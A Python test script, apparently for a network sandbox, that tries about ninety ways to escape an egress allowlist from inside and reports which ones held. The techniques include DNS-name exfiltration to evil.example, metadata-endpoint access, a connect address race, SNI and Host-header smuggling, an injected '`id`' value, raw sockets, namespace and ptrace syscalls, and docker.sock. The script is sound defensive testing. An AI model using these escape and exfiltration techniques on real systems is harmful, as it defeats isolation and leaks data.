# SPDX-License-Identifier: Apache-2.0
"""Ways out of --net allowlist, tried from inside.

Prints "NAME held" or "NAME escaped WHAT" for each.  The rules of the run are those of
every_way_out_is_denied_and_told.sh; the servers are those of outside.py.
"""

import ctypes
import errno
import mmap
import os
import select
import signal
import socket
import ssl
import struct
import threading
import time

TIMEOUT = 20
GOOD = "203.0.113.10"
libc = ctypes.CDLL(None, use_errno=True)


def tcp(address, port, data=b"GET / HTTP/1.0\r\n\r\n", flags=0):
    """What a server at the address answers; the connection itself is no escape."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT)
        if flags:
            s.sendto(data, flags, (address, port))
        else:
            s.connect((address, port))
            s.sendall(data)
        return s.recv(4096)


def packed(family, address, port):
    """A socket address as the kernel reads it."""
    binary = socket.inet_pton(family, address)
    if family == socket.AF_INET:
        return struct.pack("=HH4s8x", family, socket.htons(port), binary)
    return struct.pack("=HHI16sI", family, socket.htons(port), 0, binary, 0)


def sendmmsg(s, to):
    """The same datagram twice, by one call."""
    libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
    name = ctypes.create_string_buffer(to, len(to))
    byte = ctypes.create_string_buffer(b"x")
    iov = (ctypes.c_size_t * 2)(ctypes.addressof(byte), 1)
    head = struct.pack("@PIPNPNi", ctypes.addressof(name), len(to), ctypes.addressof(iov), 1, 0, 0, 0)
    vector = ctypes.create_string_buffer((head + b"\0" * (64 - len(head))) * 2)
    if libc.sendmmsg(s.fileno(), vector, 2, 0) < 0:
        raise OSError(ctypes.get_errno(), "sendmmsg")


def without_family(address, port):
    """An address of no family, which the kernel takes for an IPv4 one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        sendmmsg(s, b"\0\0" + packed(socket.AF_INET, address, port)[2:])
        s.settimeout(0.5)
        return s.recv(4096)


def in_child(attack):
    """Another process of the run tries."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(bool(attack()))
        except OSError as e:
            os._exit(e.errno << 1 & 255)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status & 1 == 0:
        raise OSError(status >> 1, "child")
    return b"from a child"


def in_thread(attack):
    """Another thread tries."""
    got = []

    def body():
        try:
            got.append(attack())
        except OSError as e:
            got.append(e)

    thread = threading.Thread(target=body)
    thread.start()
    thread.join()
    if isinstance(got[0], OSError):
        raise got[0]
    return got[0]


def fastopen_by_sendmsg(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT)
        s.sendmsg([b"GET / HTTP/1.0\r\n\r\n"], [], 0x20000000, (address, port))
        return s.recv(4096)


def udp(address, port, data=b"x", way="sendto"):
    """Sends; that nothing has arrived is for the log of the outside to show."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        if way == "sendto":
            s.sendto(data, (address, port))
        elif way == "sendmsg":
            s.sendmsg([data], [], 0, (address, port))
        elif way == "sendmmsg":
            sendmmsg(s, packed(family, address, port))
        else:
            s.connect((address, port))
            s.send(data)
        return s.recv(4096)


def wire(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def query(name, kind=1, questions=1, server="127.0.0.53", stream=False):
    """Addresses or data in an answer; a refusal is none."""
    q = struct.pack(">HHHHHH", 7, 0x100, questions, 0, 0, 0)
    q += (wire(name) + struct.pack(">HH", kind, 1)) * questions
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((server, 53))
        s.sendall(struct.pack(">H", len(q)) + q if stream else q)
        a = s.recv(4096)[2 if stream else 0 :]
    flags, _, answers = struct.unpack(">HHH", a[2:8])
    return a if flags & 15 == 0 and answers else b""


def resolve(name):
    return socket.getaddrinfo(name, 80)


def many_names():
    for i in range(140):
        if not query("n%d.wild.example" % i):
            return b""
    return b"140 names"


def good():
    resolve("good.example")
    return GOOD


def tls(name, mangle=lambda hello: hello):
    """Data from a TLS server that was asked for the name."""
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    inside, outside = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(inside, outside, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    with socket.create_connection((good(), 443), timeout=TIMEOUT) as s:
        s.sendall(mangle(outside.read()))
        return s.recv(4096)


def add_extension(hello):
    """An encrypted server name beside the plain one, which is an allowed one."""
    data = struct.pack(">HH", 0xFE0D, 4) + b"\0\0\0\0"
    body = bytearray(hello[9:])
    at = 34 + 1 + body[34]
    at += 2 + struct.unpack(">H", body[at : at + 2])[0]
    at += 1 + body[at]
    body[at : at + 2] = struct.pack(">H", struct.unpack(">H", body[at : at + 2])[0] + len(data))
    body += data
    body = b"\x01" + struct.pack(">I", len(body))[1:] + bytes(body)
    return b"\x16\x03\x01" + struct.pack(">H", len(body)) + body


def in_two_records(hello):
    """The name is in the second record."""
    body = hello[5:]
    cut = [body[:20], body[20:]]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(p)) + p for p in cut)


def http(text):
    return tcp(good(), 80, text.replace("\n", "\r\n").encode())


def after(port, first, then):
    """More on a connection whose first request was right and is answered."""
    with socket.create_connection((good(), port), timeout=TIMEOUT) as s:
        s.sendall(first.replace("\n", "\r\n").encode())
        if port == 80:
            s.recv(4096)
        s.sendall(then)
        p = select.poll()
        p.register(s, 0)
        p.poll(TIMEOUT * 1000)  # until it is reset
        return s.recv(4096)


def cut_short(text):
    """A request that never becomes whole is not waited for."""
    begin = time.monotonic()
    with socket.create_connection((good(), 80), timeout=TIMEOUT) as s:
        s.sendall(text)
        s.shutdown(socket.SHUT_WR)
        try:
            return s.recv(4096)
        except ConnectionResetError:
            return b"waiting" if time.monotonic() - begin > 8 else b""


def urgent():
    """A byte that is not where the others are."""
    with socket.create_connection((good(), 25), timeout=TIMEOUT) as s:
        s.recv(4096)
        s.send(b"U", socket.MSG_OOB)
        return s.recv(4096)


def race():
    """Another process changes the address while connect looks at it, until that has hit.

    It counts its turns.  Between two tries it stops anywhere in a turn, or does not stop at all: so
    of the tries that come after a turn each meets the one address as likely as the other.
    """
    libc.connect.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
    shared = mmap.mmap(-1, mmap.PAGESIZE)
    at = (ctypes.c_char * 16).from_buffer(shared)
    goods = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton("203.0.113.12"))
    bads = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton("203.0.113.15"))
    turns = ctypes.c_uint64.from_buffer(shared, 64)
    ctypes.memmove(at, goods, 16)
    pid = os.fork()
    while pid == 0:
        ctypes.memmove(at, bads, 16)
        turns.value += 1
        ctypes.memmove(at, goods, 16)
    tries = refused = turned = last = 0
    end = time.monotonic() + 10 * TIMEOUT
    try:
        while (tries < 300 or turned < 50 or not refused) and time.monotonic() < end:
            tries += 1
            now = turns.value
            turned += now != last
            last = now
            with socket.socket() as s:
                if libc.connect(s.fileno(), at, 16) < 0:
                    refused += 1
                    continue
                try:
                    other = s.getpeername()[0] == "203.0.113.15"
                    s.settimeout(TIMEOUT)
                    s.sendall(b"GET / HTTP/1.1\r\nHost: raced.example\r\n\r\n")
                    if s.recv(100) and other:
                        return b"another address"
                except OSError:
                    pass
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return b""


def call(number, *args):
    """A system call that must not work."""
    r = libc.syscall(number, *args)
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return b"system call %d" % number


def make(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return b"socket"


def netlink_route():
    with socket.socket(16, socket.SOCK_RAW, 0) as s:
        body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
        s.send(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
        error = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if error:
        raise OSError(-error, "netlink")
    return b"route"


def bound_to_device():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
        s.settimeout(TIMEOUT)
        s.connect(("203.0.113.16", 80))
        s.sendall(b"GET / HTTP/1.1\r\nHost: device\r\n\r\n")
        return s.recv(100)


def other_namespaces():
    for pid in os.listdir("/proc"):
        for path in ("/proc/%s/ns/net" % pid, "/proc/%s/root/proc/1/ns/net" % pid):
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError:
                continue
            if os.fstat(fd).st_ino != os.stat("/proc/self/ns/net").st_ino:
                return path.encode()
            call(308, fd, 0x40000000)  # setns
            return b"setns"
    raise OSError(errno.EPERM, "none")


def inherited():
    found = [os.readlink("/proc/self/fd/" + fd) for fd in os.listdir("/proc/self/fd")]
    return ",".join(f for f in found if f.startswith("socket:")).encode()


def helper():
    """The process outside: by pid, by name, by signal."""
    for pid in os.listdir("/proc"):
        if pid.isdigit() and b"netd" in open("/proc/%s/comm" % pid, "rb").read():
            return b"seen as " + pid.encode()
    return b""


def unix(address):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(address)
    return b"connected"


GET = "GET / HTTP/1.1\n"
H = "Host: good.example\n\n"
attacks = {
    "direct": lambda: tcp("203.0.113.11", 80),
    "direct-tls": lambda: tcp("203.0.113.11", 443),
    "direct-ipv6": lambda: tcp("2001:db8::11", 80),
    "mapped-ipv6": lambda: tcp("::ffff:203.0.113.13", 80),
    "nat64": lambda: tcp("64:ff9b::203.0.113.10", 80),
    "6to4": lambda: tcp("2002:cb00:710a::1", 80),
    "metadata": lambda: tcp("169.254.169.254", 80),
    "private": lambda: tcp("10.0.0.1", 22),
    "private-ipv6": lambda: tcp("fd00::1", 22),
    "link-local": lambda: tcp("169.254.1.1", 80),
    "own-host": lambda: tcp("203.0.113.254", 22),
    "broadcast": lambda: tcp("255.255.255.255", 80),
    "other-port": lambda: tcp("203.0.113.12", 8080),
    "unasked": lambda: tcp("203.0.113.14", 80),
    "fastopen": lambda: tcp("203.0.113.17", 80, flags=0x20000000),
    "bindtodevice": bound_to_device,
    "toctou": race,
    "udp": lambda: udp("203.0.113.18", 7002),
    "udp-allowed": lambda: udp("203.0.113.12", 7002),
    "udp-sendmsg": lambda: udp("203.0.113.19", 7002, way="sendmsg"),
    "sendmsg-ipv6": lambda: udp("2001:db8::12", 7002, way="sendmsg"),
    "sendmsg-mapped": lambda: udp("::ffff:203.0.113.21", 53, way="sendmsg"),
    "sendmsg-thread": lambda: in_thread(lambda: udp("203.0.113.22", 7002, way="sendmsg")),
    "sendmsg-child": lambda: in_child(lambda: udp("203.0.113.23", 7002, way="sendmsg")),
    "no-family": lambda: without_family("203.0.113.24", 7002),
    "sendmsg-tcp": lambda: fastopen_by_sendmsg("203.0.113.25", 80),
    "sendmmsg": lambda: udp("203.0.113.26", 7002, way="sendmmsg"),
    "sendmmsg-ipv6": lambda: udp("2001:db8::13", 7002, way="sendmmsg"),
    "udp-connected": lambda: udp("203.0.113.12", 443, way="connect"),
    "udp-ipv6": lambda: udp("2001:db8::10", 7002),
    "resolver": lambda: udp("203.0.113.53", 53),
    "resolver-tcp": lambda: query("good.example", server="203.0.113.53", stream=True),
    "resolver-mapped": lambda: udp("::ffff:203.0.113.20", 53),
    "dns-name": lambda: query("secret-0123456789.evil.example"),
    "dns-tcp": lambda: query("tcp-0123456789.evil.example", stream=True),
    "dns-txt": lambda: query("good.example", 16),
    "dns-null": lambda: query("good.example", 10),
    "dns-any": lambda: query("other.example", 255),
    "dns-axfr": lambda: query("other.example", 252, stream=True),
    "dns-two": lambda: query("good.example", questions=2),
    "dns-long": lambda: query("a" * 41 + ".wild.example"),
    "dns-deep": lambda: query(".".join("abcdefgh" for _ in range(8)) + ".wild.example"),
    "dns-many": many_names,
    "rebind-loopback": lambda: resolve("loop.example"),
    "rebind-metadata": lambda: resolve("metadata.example"),
    "rebind-private": lambda: resolve("private.example"),
    "rebind-mapped": lambda: query("mapped.example", 28),
    "rebind-host": lambda: resolve("host.example"),
    "sni": lambda: tls("evil.example"),
    "sni-other-rule": lambda: tls("other.example"),
    "sni-none": lambda: tls(None),
    "sni-split": lambda: tls("split.example", in_two_records),
    "sni-garbage": lambda: tls("good.example", lambda h: h[:9] + b"\xff" * (len(h) - 9)),
    "ech": lambda: tls("good.example", add_extension),
    "host": lambda: http("GET / HTTP/1.1\nHost: evil.example\n\n"),
    "host-target": lambda: http("GET http://target.example/ HTTP/1.1\n" + H),
    "host-twice": lambda: http("GET / HTTP/1.1\nHost: good.example\nHost: twice.example\n\n"),
    "host-folded": lambda: http("GET / HTTP/1.1\nX: y\n Host: z\n" + H),
    "host-none": lambda: http("GET / HTTP/1.1\nAccept: *\n\n"),
    "host-late": lambda: http("\nGET / HTTP/1.1\nHost: late.example\n\n"),
    "host-next": lambda: after(80, GET + H, b"GET / HTTP/1.1\r\nHost: next.example\r\n\r\n"),
    "upgrade": lambda: after(7000, GET + "Upgrade: h2c\n" + H, b"\x81\x05hello\n"),
    "http-09": lambda: http("GET http://old.example/\nHost: old.example\n\n"),
    "host-bytes": lambda: http("GET / HTTP/1.1\nHost: [`id`]\n\n"),
    "host-half": lambda: cut_short(b"GET /"),
    "urgent": urgent,
    "tls-alert": lambda: tls("evil.example", lambda h: b"\x15\x03\x01\0\2\1\x5a" + h),
    "sni-local": lambda: tls("localhost"),
    "connect-same": lambda: http("CONNECT good.example:443 HTTP/1.1\n" + H),
    "connect": lambda: http("CONNECT tunnel.example:443 HTTP/1.1\n" + H),
    "raw": lambda: make(2, 3, 1),
    "raw-ipv6": lambda: make(10, 3, 58),
    "ping": lambda: make(2, 2, 1),
    "ping-ipv6": lambda: make(10, 2, 58),
    "packet": lambda: make(17, 3, socket.htons(3)),
    "netfilter": lambda: make(16, 3, 12),
    "vsock": lambda: make(40, 1),
    "alg": lambda: make(38, 5),
    "io-uring": lambda: call(425, 8, (ctypes.c_char * 120)()),
    "bpf": lambda: call(321, 0, (ctypes.c_char * 64)(), 64),
    "unshare": lambda: call(272, 0x40000000),
    "ptrace": lambda: call(101, 16, 1, 0, 0),
    "pidfd-getfd": lambda: call(438, os.pidfd_open(1), 3, 0),
    "netlink-route": netlink_route,
    "namespaces": other_namespaces,
    "inherited": inherited,
    "helper": helper,
    "docker-socket": lambda: unix("/var/run/docker.sock"),
    "abstract": lambda: unix("\0menace-test-outside"),
}

for name, attack in attacks.items():
    try:
        got = attack()
    except (OSError, ssl.SSLError) as e:
        got = b""
        why = errno.errorcode.get(e.errno, str(e)) if isinstance(e, OSError) else str(e)
    else:
        why = "nothing"
    print(name, "escaped %r" % (got,) if got else "held %s" % why, flush=True)
